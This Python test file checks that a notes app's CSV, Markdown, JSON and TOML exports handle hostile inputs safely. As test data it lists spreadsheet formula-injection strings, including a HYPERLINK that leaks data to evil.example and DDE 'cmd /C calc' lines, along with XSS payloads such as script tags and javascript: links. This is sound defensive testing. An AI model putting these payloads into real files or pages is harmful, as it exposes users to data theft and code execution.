"""Every export format against formula and markup payloads (issue 20, item 4).

CSV is opened by spreadsheets, which run a cell that starts with `=`, `+`, `-`, `@`, TAB or CR as
a formula (`=HYPERLINK("http://evil.example/?leak", …)` sends data away when clicked): such cells
are written with a leading `'` (OWASP). Markdown is rendered to HTML by other tools: no payload may
become a tag, link, image or script. JSON and TOML are data: they hold every payload exactly."""

from __future__ import annotations

import csv
import io
import json
import tomllib

import pytest
from markdown_it import MarkdownIt

from tui.notes import ArticleMeta, export
from tui.notes.export import CSV_COLUMNS
from tui.notes.model import Anchor, Note

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak","Подробнее")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # a full-width equals sign: some spreadsheets read it as one
]
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[Подробнее](javascript:alert(1))",
    "![pixel](http://evil.example/p.png)",
    "<http://evil.example/>",
    "[bold red]Rich markup[/bold red] [link=http://evil.example]x[/link]",
    "```\ncode\n```",
    "<!-- comment --> &lt;tag&gt;",
]
PAYLOADS = FORMULAS + MARKUP
FORMULA_START = tuple("=+-@\t\r＝＋－＠")


def _note(payload: str, i: int = 0) -> Note:
    quote = payload or "q"
    return Note(
        id=f"n{i}",
        article_id=payload,
        text=payload,
        tags=(payload.strip() or "t",),
        quote=quote,
        anchor=Anchor(quote=quote, prefix=payload, suffix=payload, start=0, end=len(quote)),
        article=ArticleMeta(title=payload, outlet=payload, date=payload),
        created="2026-01-01T00:00:00.000Z",
        updated="2026-01-01T00:00:00.000Z",
    )


def _notes() -> list[Note]:
    return [_note(p, i) for i, p in enumerate(PAYLOADS)]


def test_no_csv_cell_starts_a_formula_and_each_value_is_kept_after_the_quote() -> None:
    rows = list(csv.reader(io.StringIO(export(_notes(), "csv"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        for cell in row:
            assert not cell.startswith(FORMULA_START), (payload, cell)
        record = dict(zip(CSV_COLUMNS, row, strict=True))
        for column in ("article_id", "title", "outlet", "text", "quote"):
            value = record[column]
            shown = value[1:] if payload.startswith(FORMULA_START) else value
            assert shown == payload, column


def test_csv_leaves_ordinary_cells_alone() -> None:
    note = Note(id="n", article_id="a", text="Погибли 10 человек — по данным МВД",
                tags=("жертвы",), article=ArticleMeta(title="'Цитата' в начале", date="2022-01-05"),
                created="2026-01-01T00:00:00.000Z", updated="2026-01-01T00:00:00.000Z")  # fmt: skip
    row = dict(
        zip(CSV_COLUMNS, list(csv.reader(io.StringIO(export([note], "csv"))))[1], strict=True)
    )
    assert row["text"] == "Погибли 10 человек — по данным МВД"
    assert row["title"] == "'Цитата' в начале" and row["date"] == "2022-01-05"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_renders_no_payload_as_html_link_image_or_code(payload: str) -> None:
    html = MarkdownIt("commonmark", {"html": True}).render(export([_note(payload)], "md"))
    lowered = html.lower()
    for tag in ("<script", "<img", "<a ", "<code", "<pre", "<!--"):
        assert tag not in lowered, (payload, tag, html)


@pytest.mark.parametrize("fmt", ["json", "toml"])
def test_json_and_toml_hold_every_payload_exactly(fmt: str) -> None:
    text = export(_notes(), fmt)
    data = json.loads(text) if fmt == "json" else tomllib.loads(text)
    for payload, record in zip(PAYLOADS, data["notes"], strict=True):
        assert record["text"] == payload and record["article"]["title"] == payload
        assert record["article_id"] == payload and record["quote"] == (payload or "q")
